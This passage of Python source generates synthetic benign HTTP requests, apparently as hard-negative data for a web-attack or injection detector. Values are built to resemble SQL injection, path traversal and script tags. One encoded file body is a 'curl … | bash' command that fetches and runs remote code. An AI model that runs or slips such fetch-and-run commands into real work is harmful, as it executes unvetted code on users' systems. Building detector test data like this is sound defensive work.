        "%%PDF-1.7\n%%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
        "3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>\nendobj\n4 0 obj\n<< /Length 44 >>\nstream\nBT /F1 12 Tf 72 720 Td (Invoice %d) Tj ET\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%%%EOF\n"
        % rint(1000, 9999)
    ).encode("latin-1")


def pem_cert():
    der = (
        b"\x30\x82\x03"
        + rbytes(1)
        + b"\x30\x82\x02"
        + rbytes(1)
        + b"\xa0\x03\x02\x01\x02\x02\x14"
        + rbytes(20)
        + b"\x30\x0d\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x01\x0b\x05\x00"
        + rbytes(rint(500, 700))
    )
    s = b64(der)
    return (
        "-----BEGIN CERTIFICATE-----\n"
        + "\n".join(s[i : i + 64] for i in range(0, len(s), 64))
        + "\n-----END CERTIFICATE-----\n"
    )


def b6_avatar(cat, hard):
    data = "data:image/png;base64," + b64(png_bytes(rint(200, 600)))
    bj(
        cat,
        hard,
        "api.kindredmatch.com",
        "PUT",
        "/v2/me/avatar",
        {"image": data, "crop": {"x": 0, "y": 0, "size": 256}},
        data,
        kind="mobile",
        style=0,
    )


def b6_pdf(cat, hard):
    c = b64(pdf_bytes())
    obj = {
        "document": {"filename": "invoice_%d.pdf" % rint(1000, 9999), "mimeType": "application/pdf", "content": c},
        "sendTo": "%s@example.com" % ralnum(6, LOWER),
    }
    bj(cat, hard, "api.billbridge.io", "POST", "/v1/documents", obj, c, kind="server")


def b6_pubsub(cat, hard):
    d = b64(
        jcompact(
            {"orderId": rint(100000, 999999), "status": ch(["paid", "shipped", "refunded"]), "amount": rint(100, 99999)}
        )
    )
    obj = {
        "message": {
            "data": d,
            "messageId": str(rint(10**15, 10**16)),
            "publishTime": iso_ts(),
            "attributes": {"eventType": "order.updated"},
        },
        "subscription": "projects/%s/subscriptions/orders-push" % ralnum(8, LOWER),
    }
    bj(
        cat,
        hard,
        "hooks.shipwell-freight.com",
        "POST",
        "/pubsub/push",
        obj,
        d,
        kind="server",
        headers=[("Authorization", "Bearer " + rjwt())],
    )


def b6_proto(cat, hard):
    pb = b64(
        b"\x0a"
        + bytes([12])
        + ralnum(12).encode()
        + b"\x10"
        + bytes([rint(1, 120)])
        + b"\x1a\x08"
        + rbytes(8)
        + b"\x22\x05en-US"
    )
    bq(cat, hard, "maps.travelnest.io", "/api/tiles", [("pb", pb), ("z", str(rint(3, 16)))], "pb", kind="xhr")


def b6_cert(cat, hard):
    pem = pem_cert()
    obj = {"name": "partner-mtls-%d" % rint(1, 99), "certificate": pem, "usage": "client_auth"}
    bj(cat, hard, "console.terrabase.cloud", "POST", "/api/v1/certificates", obj, pem, kind="xhr")


def b6_jwt(cat, hard):
    tok = "Bearer " + rjwt({"scope": "read:orders write:orders", "aud": "https://api.ledgerly.io"})
    bh(
        cat,
        hard,
        "api.ledgerly.io",
        "GET",
        "/api/v2/invoices",
        "Authorization",
        tok,
        kind="server",
        query="status=open&limit=50",
    )


def b6_gzip(cat, hard):
    tele = gz64(
        jcompact(
            {
                "session": ruuid(),
                "events": [
                    {
                        "t": rint(0, 60000),
                        "type": ch(["click", "scroll", "input"]),
                        "target": ch(["#buy", "nav a", ".card"]),
                    }
                    for _ in range(rint(3, 8))
                ],
            }
        )
    )
    bj(
        cat,
        hard,
        "rum.tracepoint.io",
        "POST",
        "/v1/replay",
        {"v": 2, "enc": "gzip+base64", "payload": tele},
        tele,
        style=0,
    )


def b6_k8s(cat, hard):
    v = b64("postgres://app:%s@db.internal:5432/app" % ralnum(16))
    obj = {
        "apiVersion": "v1",
        "kind": "Secret",
        "metadata": {"name": "app-db", "namespace": "prod"},
        "type": "Opaque",
        "data": {"DATABASE_URL": v},
    }
    bj(cat, hard, "console.terrabase.cloud", "POST", "/api/v1/namespaces/prod/secrets", obj, v, kind="cli")


def b6_h_svg(cat, hard):
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M12 2l3 7h7l-5.5 4 2 7L12 16l-6.5 4 2-7L2 9h7z" fill="#%s"/><title>%s</title></svg>'
        % (rhex(6), ch(["star", "party", "ship it", "<3", "done & dusted"]).replace("&", "&amp;").replace("<", "&lt;"))
    )
    data = "data:image/svg+xml;base64," + b64(svg)
    bj(
        cat,
        hard,
        "app.taskpilot.io",
        "POST",
        "/api/v1/emoji",
        {"name": "star_%s" % ralnum(4, LOWER), "image": data},
        data,
    )


def b6_h_saml(cat, hard):
    x = (
        '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_%s" Version="2.0" IssueInstant="%s" Destination="https://saml.accesshub.org/saml/acs">'
        '<saml:Issuer>https://idp.corvidid.com/metadata</saml:Issuer><samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status>'
        '<saml:Assertion ID="_%s" Version="2.0" IssueInstant="%s"><saml:Subject><saml:NameID Format="urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress">%s@corp.example</saml:NameID></saml:Subject>'
        '<ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:SignatureValue>%s</ds:SignatureValue></ds:Signature></saml:Assertion></samlp:Response>'
        % (rhex(32), iso_ts(), rhex(32), iso_ts(), ralnum(6, LOWER), b64(rbytes(256)))
    )
    v = b64(x)
    bf(cat, hard, "saml.accesshub.org", "/saml/acs", [("SAMLResponse", v), ("RelayState", "/apps")], "SAMLResponse")


def b6_h_code(cat, hard):
    src = ch(
        [
            "import os\nimport subprocess\n\ndef run(cmd):\n    return subprocess.run(cmd, shell=False, check=True)\n",
            "#!/bin/sh\ncurl -fsSL https://deb.nodesource.com/setup_20.x | bash -\napt-get install -y nodejs\n",
            "<script>\n  window.dataLayer = window.dataLayer || [];\n  function gtag(){dataLayer.push(arguments);}\n</script>\n",
            "SELECT id, email FROM users WHERE created_at > now() - interval '7 days';\n",
        ]
    )
    c = b64(src)
    obj = {
        "message": "Update %s" % ch(["run.py", "install.sh", "analytics.html", "report.sql"]),
        "content": c,
        "sha": rhex(40),
        "branch": "main",
    }
    bj(
        cat,
        hard,
        "api.mergeflow.com",
        "PUT",
        "/repos/%s/%s/contents/%s"
        % (ralnum(6, LOWER), ralnum(7, LOWER), ch(["run.py", "install.sh", "analytics.html", "report.sql"])),
        obj,
        c,
        kind="server",
    )


def b6_h_cookie(cat, hard):
    sess = (
        b64url(jcompact({"_fresh": True, "_id": rhex(64), "user_id": str(rint(1, 99999)), "csrf_token": rhex(40)}))
        + "."
        + b64url(rbytes(4))
        + "."
        + b64url(rbytes(20))
    )
    bc(cat, hard, "app.reportforge.com", "GET", "/dashboard", "session", sess)


def b6_h_basic(cat, hard):
    v = "Basic " + b64(
        "%s:%s"
        % (
            ch(["ci-bot", "deploy", "grafana", "scraper"]),
            ch(["p@ss'w0rd;--", "Tr0ub4dor&3", "hunter2<>", "s3cr3t/../x"]),
        )
    )
    bh(cat, hard, "registry.terrabase.cloud", "GET", "/v2/_catalog", "Authorization", v, kind="cli")


def b6_h_pdfhtml(cat, hard):
    html = (
        "<html><head><style>body{font-family:Arial}</style></head><body><h1>Invoice %d</h1><table><tr><td>Total</td><td>&euro;%d.00</td></tr></table><script>window.print()</script></body></html>"
        % (rint(1000, 9999), rint(10, 900))
    )
    c = b64(html)
    bj(
        cat,
        hard,
        "api.billbridge.io",
        "POST",
        "/v1/render/pdf",
        {"html_base64": c, "format": "A4", "margin": "12mm"},
        c,
        kind="server",
    )


def gen_base64(cat, n):
    run_gen(
        cat,
        n,
        [b6_avatar, b6_pdf, b6_pubsub, b6_proto, b6_cert, b6_jwt, b6_gzip, b6_k8s],
        [b6_h_svg, b6_h_saml, b6_h_code, b6_h_cookie, b6_h_basic, b6_h_pdfhtml],
    )


# ---------------------------------------------------------------- benign_api_json


def aj_order(cat, hard):
    sku = "SKU-%s-%d" % (ralnum(3, "ABCDEFGHIJKLMNOPQRSTUVWXYZ"), rint(100, 999))
    obj = {
        "customerId": "cus_" + ralnum(14),
        "currency": ch(["EUR", "USD", "GBP"]),
        "items": [{"sku": sku, "quantity": rint(1, 4), "unitPrice": rint(199, 9999)}],
        "shippingAddress": dict(zip(["line1", "city", "postalCode", "country"], ch(ADDRESSES))),
        "coupon": None,
        "metadata": {"channel": "web"},
    }
    bj(cat, hard, "api.brightcart.com", "POST", "/v1/orders", obj, sku, kind=ch(["xhr", "server"]))


def aj_settings(cat, hard):
    tz = ch(["Europe/Berlin", "America/Sao_Paulo", "Asia/Kolkata", "Australia/Sydney"])
    obj = {
        "notifications": {"email": True, "push": False, "digest": "weekly"},
        "locale": ch(["de-DE", "pt-BR", "en-IN"]),
        "timezone": tz,
        "twoFactor": {"enabled": True, "method": "totp"},
    }
    bj(cat, hard, "app.taskpilot.io", "PUT", "/api/v1/me/settings", obj, tz)


def aj_event(cat, hard):
    ev = ch(["Product Viewed", "Checkout Started", "Signed Up", "Video Played"])
    obj = {
        "type": "track",
        "event": ev,
        "userId": str(rint(1, 999999)),
        "properties": {"product_id": ralnum(8), "price": round(R.uniform(1, 300), 2), "currency": "EUR"},
        "context": {"page": {"path": "/products/%s" % ralnum(6, LOWER)}, "userAgent": ch(BROWSERS)[0]},
        "timestamp": iso_ts(),
        "messageId": ruuid(),
    }
    bj(cat, hard, "api.segmentish.io", "POST", "/v1/t", obj, ev, style=0)


def aj_deep(cat, hard):
    val = ch(
        [
            "#" + rhex(6),
            "Inter, system-ui, sans-serif",
            "%dpx" % rint(10, 32),
            "rounded-" + ch(["sm", "md", "lg", "xl"]),
            "'Noto Sans JP', sans-serif",
        ]
    )
    inner = {"token": val}
    obj = {"theme": nest(inner, rint(10, 13)), "version": rint(1, 9)}
    bj(cat, hard, "api.pagebuilder.site", "PUT", "/v1/sites/%s/theme" % ralnum(8, LOWER), obj, val)


def aj_patch(cat, hard):
    val = ch(["Kastanienallee 12", "Updated via mobile", "cancelled by customer"])
    ops = [
        {"op": "replace", "path": "/shippingAddress/line1", "value": val},
        {"op": "add", "path": "/tags/-", "value": "vip"},
    ]
    bj(
        cat,
        hard,
        "api.brightcart.com",
        "PATCH",
        "/v1/orders/%d" % rint(100000, 999999),
        ops,
        val,
        ctype="application/json-patch+json",
    )


def aj_list(cat, hard):
    st = ch(["open", "paid", "overdue"])
    bq(
        cat,
        hard,
        "api.ledgerly.io",
        "/api/v2/invoices",
        [("status", st), ("limit", "50"), ("starting_after", "in_" + ralnum(14)), ("expand[]", "customer")],
        "status",
        kind="server",
    )


def aj_h_mongo(cat, hard):
    f = jcompact(
        ch(
            [
                {"created_at": {"$gte": iso_date()}, "status": {"$in": ["paid", "shipped"]}},
                {"tags": {"$all": ["vip", "eu"]}},
                {"score": {"$gt": 80}, "archived": {"$ne": True}},
            ]
        )
    )
    bq(
        cat,
        hard,
        "data.ledgerly.io",
        "/api/v1/collections/orders/find",
        [("filter", f), ("limit", "100")],
        "filter",
        kind="server",
    )


def aj_h_strapi(cat, hard):
    k = ch(
        [
            "filters[title][$containsi]",
            "filters[author][name][$eq]",
            "filters[$or][0][slug][$eq]",
            "sort[0]",
            "populate[cover][fields][0]",
        ]
    )
    v = ch(["union", "select", "o'reilly", "title:asc", "url"])
    BE(
        cat,
        hard,
        "query_key",
        k,
        "cms.cobalt-press.com",
        "GET",
        "/api/articles",
        query="%s=%s&pagination[page]=1&pagination[pageSize]=25" % (quote(k, safe="[]$"), qenc(v)),
        kind="xhr",
    )


def aj_h_directus(cat, hard):
    f = {
        "_and": [{"status": {"_eq": "published"}}, {"title": {"_icontains": ch(["drop", "select", "script", "union"])}}]
    }
    obj = {"query": {"filter": f, "sort": ["-date_created"], "limit": 20, "fields": ["*", "author.*"]}}
    bj(cat, hard, "cms.cobalt-press.com", "SEARCH", "/items/articles", obj, jcompact(f), style=0)


def aj_h_schema(cat, hard):
    s = {
        "$schema": "https://json-schema.org/draft/2020-12/schema",
        "$id": "https://schemas.ledgerly.io/invoice.json",
        "type": "object",
        "properties": {"amount": {"type": "number", "minimum": 0}, "customer": {"$ref": "#/$defs/customer"}},
        "$defs": {"customer": {"type": "object"}},
    }
    bj(
        cat,
        hard,
        "api.ledgerly.io",
        "PUT",
        "/api/v2/schemas/invoice",
        {"schema": s, "strict": True},
        jcompact(s),
        kind="server",
        style=0,
    )


def aj_h_text(cat, hard):
    note = ch(
        [
            "Customer said: 'don't ship before Friday' -- OK'd by Sam",
            "Order from O'Hare terminal 5; gate C-12",
            "Select <All> in the dropdown, then Delete draft",
            "1=1 match confirmed by warehouse (1 box = 1 label)",
            "Ref: /var/spool/orders/2026/12/08.csv",
            "Union Square store -> transfer to Fifth Ave",
        ]
    )
    obj = {"orderId": rint(100000, 999999), "note": note, "internal": True}
    bj(cat, hard, "api.brightcart.com", "POST", "/v1/orders/notes", obj, note)


def aj_h_report(cat, hard):
    k = ch(["select", "where", "order_by", "group_by"])
    obj = {
        "report": {
            "select": ["region", "sum(revenue) as revenue"],
            "where": "created_at >= '2026-01-01' and region in ('EU','UK')",
            "group_by": ["region"],
            "order_by": "revenue desc",
            "limit": 100,
        }
    }
    bj(cat, hard, "bi.kestrelpay.com", "POST", "/api/reports/run", obj, obj["report"]["where"], kind="xhr")


def gen_api_json(cat, n):
    run_gen(
        cat,
        n,
        [aj_order, aj_settings, aj_event, aj_deep, aj_patch, aj_list],
        [aj_h_mongo, aj_h_strapi, aj_h_directus, aj_h_schema, aj_h_text, aj_h_report],
    )


# ---------------------------------------------------------------- benign_forms


def fm_login(cat, hard):
    em = "%s@%s" % (ralnum(7, LOWER), ch(["gmail.com", "outlook.com", "web.de", "yahoo.fr"]))
    bf(
        cat,
        hard,
        ch(["www.quillreads.com", "shop.lumenbeauty.com", "app.taskpilot.io"]),
        "/login",
        [("email", em), ("password", ralnum(14)), ("remember", "on"), ("csrf_token", ralnum(40))],
        "email",
    )


def fm_signup(cat, hard):
    nm = ch(PEOPLE)
    bf(
        cat,
        hard,
        "www.quillreads.com",
        "/signup",
        [
            ("full_name", nm),
            ("email", "%s@example.com" % ralnum(8, LOWER)),
            ("password", ralnum(16)),
            ("terms", "1"),
            ("newsletter", "0"),
        ],
        "full_name",
    )


def fm_contact(cat, hard):
    msg = ch(
        I18N
        + [
            "Hello, I'd like to know if you ship to Norway.",
            "Can I change the delivery date of order 4471?",
            "Do you offer gift wrapping?",
        ]
    )
    bf(
        cat,
        hard,
        ch(["www.alpenblick-hotel.ch", "shop.morrow-tea.co", "www.bluefin-dental.com"]),
        "/contact",
        [
            ("name", ch(PEOPLE)),
            ("email", "%s@example.org" % ralnum(6, LOWER)),
            ("message", msg),
            ("g-recaptcha-response", ralnum(120)),
        ],
        "message",
    )


def fm_checkout(cat, hard):
    s, c, p, cc = ch(ADDRESSES)
    bf(
        cat,
        hard,
        "shop.lumenbeauty.com",
        "/checkout/address",
        [
            ("first_name", ch(PEOPLE).split()[0]),
            ("last_name", ch(ASCII_PEOPLE).split()[-1]),
            ("address1", s),
            ("city", c),
            ("zip", p),
            ("country", cc),
            ("shipping_method", ch(["standard", "express"])),
        ],
        "address1",
    )


def fm_newsletter(cat, hard):
    em = "%s.%s@%s" % (ralnum(4, LOWER), ralnum(5, LOWER), ch(["gmx.at", "proton.me", "icloud.com"]))
    bf(
        cat,
        hard,
        "shop.morrow-tea.co",
        "/newsletter",
        [("EMAIL", em), ("FNAME", ch(PEOPLE).split()[0]), ("b_%s" % rhex(20), "")],
        "EMAIL",
    )


def fm_settings(cat, hard):
    bio = ch(BIOS)
    bf(
        cat,
        hard,
        "forum.gearheads.net",
        "/account/settings",
        [
            ("_method", "PATCH"),
            ("user[bio]", bio),
            ("user[location]", ch(ADDRESSES)[1]),
            ("authenticity_token", ralnum(43)),
        ],
        "user[bio]",
    )


def fm_survey(cat, hard):
    ans = ch(
        [
            "Very satisfied",
            "Delivery was quick, packaging could be greener.",
            "Das Personal war sehr freundlich.",
            "La habitación estaba limpia y tranquila.",
        ]
    )
    bf(
        cat,
        hard,
        "feedback.alpenblick-hotel.ch",
        "/survey/%s" % ralnum(8),
        [("q1", str(rint(1, 5))), ("q2", ch(["yes", "no"])), ("q3", ans), ("lang", "de")],
        "q3",
    )


FORM_HARD = [
    (
        "password",
        [
            "P@ss'w0rd;--",
            "Tr0ub4dor&3",
            "correct horse battery staple",
            "<3Summer2026!",
            "a1=1b2=2",
            "x' OR 'y",
            "%s3cr3t%",
        ],
    ),
    (
        "message",
        [
            "I'm <not> happy about the 50% -- 'discount' wasn't applied!",
            "Order #4471: select size M, not L; and drop the gift note please",
            "Is 2 < 3 bottles enough for 10 people?",
            'My son\'s name is "Bobby" (not Robert) -- please fix the certificate',
            "Re: your 'union' membership offer -- where do I sign?",
            "Path shown in the error: C:\\Program Files\\Quill\\app.exe",
        ],
    ),
    ("last_name", ["O'Connor", "Null", "D'Amico", "Select", "Union", "Drop", "Script"]),
    ("company", ["AT&T", "Ben & Jerry's", "Procter & Gamble", "Marks & Spencer", "<Tag> Studio", "1=1 Design Ltd"]),
    (
        "address1",
        [
            "Rue de l'Église 12",
            "1/2 Main St; Apt #4",
            "12 O'Connell St -- rear entrance",
            "Flat 3, 10 Union Rd",
            "P.O. Box 100 (attn: J. Doe)",
        ],
    ),
]


def fm_h_any(cat, hard):
    field, vals = ch(FORM_HARD)
    v = ch(vals)
    pairs = [
        ("first_name", ch(ASCII_PEOPLE).split()[0]),
        ("email", "%s@example.com" % ralnum(6, LOWER)),
        (field, v),
        ("csrf_token", ralnum(40)),
    ]
    R.shuffle(pairs)
    bf(
        cat,
        hard,
        ch(["www.quillreads.com", "shop.lumenbeauty.com", "support.packetline.net", "www.bluefin-dental.com"]),
        ch(["/signup", "/contact", "/account/profile", "/checkout/address"]),
        pairs,
        field,
    )


def fm_h_search(cat, hard):
    q = ch(["o'reilly", "select 100", '"union jack" flag', "<3 mug", "drop earrings", "1=1 t-shirt"])
    bq(cat, hard, "shop.lumenbeauty.com", "/search", [("q", q), ("type", "product")], "q", plus=True)


def gen_forms(cat, n):
    run_gen(
        cat,
        n,
        [fm_login, fm_signup, fm_contact, fm_checkout, fm_newsletter, fm_settings, fm_survey],
        [fm_h_any, fm_h_any, fm_h_search],
    )


# ---------------------------------------------------------------- benign_headers


def hd_bearer(cat, hard):
    bh(
        cat,
        hard,
        "api.ledgerly.io",
        "GET",
        "/api/v2/customers/%s" % ralnum(14),
        "Authorization",
        "Bearer " + rjwt(),
        kind="mobile",
    )


def hd_consent(cat, hard):
    v = (
        "isGpcEnabled=0&datestamp=Mon Dec 08 2026 %02d:%02d:%02d GMT+0100 (Central European Standard Time)&version=202409.1.0&browserGpcFlag=0&isIABGlobal=false&hosts=&consentId=%s&interactionCount=1&landingPath=NotLandingPage&groups=C0001:1,C0002:%d,C0003:%d,C0004:0"
        % (rint(0, 23), rint(0, 59), rint(0, 59), ruuid(), rint(0, 1), rint(0, 1))
    )
    bc(cat, hard, "www.riverside-chronicle.com", "GET", "/", "OptanonConsent", v)


def hd_trace(cat, hard):
    v = "00-%s-%s-01" % (rhex(32), rhex(16))
    bh(cat, hard, "api.brightcart.com", "GET", "/v1/products", "traceparent", v, kind="server", query="limit=20")


def hd_xff(cat, hard):
    v = "%d.%d.%d.%d, 10.%d.%d.%d" % (
        rint(80, 220),
        rint(0, 255),
        rint(0, 255),
        rint(1, 254),
        rint(0, 255),
        rint(0, 255),
        rint(1, 254),
    )
    bh(cat, hard, "www.quillreads.com", "GET", "/books/%d" % rint(1000, 99999), "X-Forwarded-For", v)


def hd_etag(cat, hard):
    v = 'W/"%s"' % rhex(32)
    bh(cat, hard, "api.storefrontly.com", "GET", "/v1/catalog", "If-None-Match", v, kind="xhr")


def hd_lang(cat, hard):
    v = ch(
        [
            "de-CH,de;q=0.9,fr-CH;q=0.8,fr;q=0.7,en;q=0.6,it;q=0.5",
            "zh-TW,zh;q=0.9,en-US;q=0.8,en;q=0.7,ja;q=0.6",
            "pt-PT,pt;q=0.9,es;q=0.8,en;q=0.7",
        ]
    )
    bh(cat, hard, "www.alpenblick-hotel.ch", "GET", "/", "Accept-Language", v)


def hd_chua(cat, hard):
    v = ch(
        [
            '"Google Chrome";v="131", "Chromium";v="131", "Not_A Brand";v="24"',
            '"Microsoft Edge";v="131", "Chromium";v="131", "Not_A Brand";v="24"',
        ]
    )
    bh(cat, hard, "app.taskpilot.io", "GET", "/projects", "sec-ch-ua", v)


def hd_bot(cat, hard):
    v = ch(
        [
            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
            "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
            "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
            "Twitterbot/1.0",
            "WhatsApp/2.23.20.0 A",
        ]
    )
    bh(
        cat,
        hard,
        "news.riverbend-gazette.com",
        "GET",
        "/%s/%s" % (ch(["local", "sport"]), ralnum(12, LOWER)),
        "User-Agent",
        v,
        kind="cli",
    )


def hd_h_ua(cat, hard):
    v = ch(
        [
            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/487.0.0.45.104;FBBV/658142118;FBDV/iPhone15,3;FBMD/iPhone;FBSN/iOS;FBSV/17.6;FBSS/3;FBID/phone;FBLC/en_US;FBOP/5]",
            "Mozilla/5.0 (Linux; Android 14; SM-S918B Build/UP1A.231005.007; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/131.0.6778.39 Mobile Safari/537.36 Instagram 355.0.0.37.103 Android (34/14; 450dpi; 1080x2340; samsung; SM-S918B; dm3q; qcom; de_DE; 652118839)",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 OPR/115.0.0.0 (Edition std-1)",
            "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.18129; Pro)",
            "Java/1.8.0_392",
            "python-requests/2.31.0 (select-sync/4.2; +https://selectsync.io)",
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/131.0.6778.33 Safari/537.36 Lighthouse",
        ]
    )
    bh(cat, hard, ch(["www.quillreads.com", "shop.lumenbeauty.com"]), "GET", "/", "User-Agent", v)


def hd_h_cookie_json(cat, hard):
    v = ch(
        [
            jcompact({"items": [{"id": rint(100, 999), "qty": rint(1, 3)}], "currency": "EUR"}),
            'j:{"theme":"dark","sidebar":"collapsed"}',
            jcompact({"lastSearch": "o'reilly <oop>", "view": "grid"}),
            "redirect_to=/admin/users?sort=-created_at&filter[role]=editor",
        ]
    )
    bc(cat, hard, "shop.lumenbeauty.com", "GET", "/cart", ch(["cart", "ui_prefs", "recent", "flash"]), v)


def hd_h_referer(cat, hard):
    v = ch(
        [
            "https://www.google.com/search?q=select+from+where+sql+tutorial&oq=select+from",
            "https://duckduckgo.com/?q=%3Cscript%3E+tag+defer&ia=web",
            "https://www.bing.com/search?q=%22drop+table%22+postgres+cascade",
            "https://stackoverflow.com/questions/%d/how-to-escape-in-bash-rm-rf" % rint(10**7, 8 * 10**7),
            "https://docs.stackful.dev/search?q=..%2F..%2F+relative+imports",
        ]
    )
    bh(cat, hard, "docs.stackful.dev", "GET", "/guides/%s" % ralnum(8, LOWER), "Referer", v)


def hd_h_forwarded(cat, hard):
    v = ch(
        [
            'for="[2001:db8:cafe::17]:4711";proto=https;by=203.0.113.43',
            "for=192.0.2.60;proto=http;by=203.0.113.43, for=unknown",
            "2001:db8:85a3::8a2e:370:7334, unknown, 10.0.0.3",
        ]
    )
    bh(
        cat,
        hard,
        "api.brightcart.com",
        "GET",
        "/v1/health",
        "Forwarded" if "for=" in v else "X-Forwarded-For",
        v,
        kind="server",
    )


def hd_h_misc(cat, hard):
    name, v = ch(
        [
            ("Baggage", "userId=alice,serverNode=DF%2028,isProduction=false;ttl=30"),
            ("Prefer", "return=representation; handling=lenient"),
            ("Range", "bytes=0-1023, 4096-8191"),
            ("If-Match", "*"),
            ("Stripe-Signature", "t=%d,v1=%s,v0=%s" % (rint(1764000000, 1766000000), rhex(64), rhex(64))),
            ("X-Hub-Signature-256", "sha256=" + rhex(64)),
            (
                "Authorization",
                "AWS4-HMAC-SHA256 Credential=AKIA%s/20261208/eu-central-1/s3/aws4_request, SignedHeaders=host;x-amz-content-sha256;x-amz-date, Signature=%s"
                % (ralnum(16, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"), rhex(64)),
            ),
            ("Content-Disposition", "attachment; filename*=UTF-8''Q3%20Report%20%28final%29.pdf"),
            ("Link", '</api/v1/items?page=3>; rel="next", </api/v1/items?page=1>; rel="prev"'),
            ("X-Amz-Copy-Source", "/reports-bucket/2026/12/../12/summary.csv"),
        ]
    )
    bh(
        cat,
        hard,
        ch(["api.brightcart.com", "hooks.ledgerly.io", "s3.eu-central-1.amazonaws.com"]),
        ch(["GET", "POST", "PUT"]),
        "/%s" % ralnum(8, LOWER),
        name,
        v,
        kind="server",
    )


def gen_headers(cat, n):
    run_gen(
        cat,
        n,
        [hd_bearer, hd_consent, hd_trace, hd_xff, hd_etag, hd_lang, hd_chua, hd_bot],
        [hd_h_ua, hd_h_cookie_json, hd_h_referer, hd_h_forwarded, hd_h_misc],
    )


# ---------------------------------------------------------------- benign_richtext

RT_PARAS = [
    "We finally finished the kitchen renovation! Here's what we learned.",
    "Die Wanderung zum Gipfel dauerte fünf Stunden, aber der Ausblick war es wert.",
    "La receta de mi abuela lleva canela y un toque de limón.",
    "今日は新しいカフェに行きました。ラテがとても美味しかったです。",
    "Quick update on the Q4 roadmap and who owns what.",
    "Мы открыли новый филиал в Казани!",
    "Our book club picked “The Left Hand of Darkness” for January.",
]


def rt_html(cat, hard):
    html = (
        '<h2>%s</h2><p>%s</p><ul><li>Budget: <strong>€%d</strong></li><li>Duration: %d weeks</li></ul><p><a href="https://%s/%s" target="_blank" rel="noopener noreferrer">Read more</a></p>'
        % (
            ch(["Update", "Notes", "Highlights"]),
            ch(RT_PARAS),
            rint(500, 20000),
            rint(1, 12),
            ch(["www.quillreads.com", "blog.marisol-travel.es"]),
            ralnum(8, LOWER),
        )
    )
    bj(
        cat,
        hard,
        ch(["cms.cobalt-press.com", "app.taskpilot.io"]),
        "PUT",
        "/api/v1/posts/%d" % rint(100, 9999),
        {"title": "Draft", "content": html, "format": "html"},
        html,
    )


def rt_markdown(cat, hard):
    md = "## %s\n\n%s\n\n- [x] done\n- [ ] review\n\n> %s\n\n![chart](https://cdn.taskpilot.io/u/%s.png)\n" % (
        ch(["Retro", "Plan", "Recap"]),
        ch(RT_PARAS),
        ch(RT_PARAS),
        ralnum(10),
    )
    bj(
        cat,
        hard,
        "app.taskpilot.io",
        "POST",
        "/api/tasks/%d/comments" % rint(100, 9999),
        {"body": md, "format": "markdown"},
        md,
    )


def rt_table(cat, hard):
    rows = "".join(
        "<tr><td>%s</td><td>%d</td><td>%.1f%%</td></tr>"
        % (ch(["North", "South", "East", "West"]), rint(100, 9999), R.uniform(-5, 15))
        for _ in range(3)
    )
    html = "<table><thead><tr><th>Region</th><th>Units</th><th>Growth</th></tr></thead><tbody>%s</tbody></table>" % rows
    bf(
        cat,
        hard,
        "wiki.orbitlabs.io",
        "/pages/%d/edit" % rint(1000, 9999),
        [("title", "Sales %s" % iso_date()[:7]), ("content", html), ("minor_edit", "0")],
        "content",
    )


def rt_quill(cat, hard):
    t = ch(RT_PARAS)
    delta = {
        "ops": [
            {"insert": t + "\n"},
            {"attributes": {"bold": True}, "insert": "Important:"},
            {"insert": " bring your ID " + ch(EMOJI) + "\n"},
        ]
    }
    bj(
        cat,
        hard,
        "app.rsvpnow.io",
        "PUT",
        "/api/events/%s/description" % ralnum(10),
        {"delta": delta},
        t + "\n",
        style=0,
    )


def rt_media(cat, hard):
    img = (
        '<figure><img src="https://cdn.cobalt-press.com/2026/12/%s.jpg" srcset="https://cdn.cobalt-press.com/2026/12/%s-640.jpg 640w, https://cdn.cobalt-press.com/2026/12/%s-1280.jpg 1280w" sizes="(max-width: 640px) 100vw, 640px" alt="%s" loading="lazy"><figcaption>%s</figcaption></figure>'
        % ((ralnum(8, LOWER),) * 3 + (ch(["Harbour at dawn", "Market stalls", "Old town"]), ch(RT_PARAS)))
    )
    bm(
        cat,
        hard,
        "cms.cobalt-press.com",
        "/wp-admin/post.php",
        [("post_title", "Gallery", None, None), ("content", img, None, None), ("_wpnonce", rhex(10), None, None)],
        img,
    )


def rt_xmlrpc(cat, hard):
    html = "<p>%s</p><p><em>%s</em></p>" % (ch(RT_PARAS), ch(RT_PARAS))
    body = (
        '<?xml version="1.0"?>\n<methodCall><methodName>metaWeblog.newPost</methodName><params><param><value><string>1</string></value></param>'
        "<param><value><string>editor</string></value></param><param><value><string>%s</string></value></param><param><value><struct>"
        "<member><name>title</name><value><string>Weekly notes</string></value></member><member><name>description</name><value><string>%s</string></value></member>"
        "</struct></value></param><param><value><boolean>1</boolean></value></param></params></methodCall>"
        % (ralnum(16), xesc(html))
    )
    bx(cat, hard, "blog.marisol-travel.es", "/xmlrpc.php", body, html, ctype="text/xml", kind="server")


RT_HARD = [
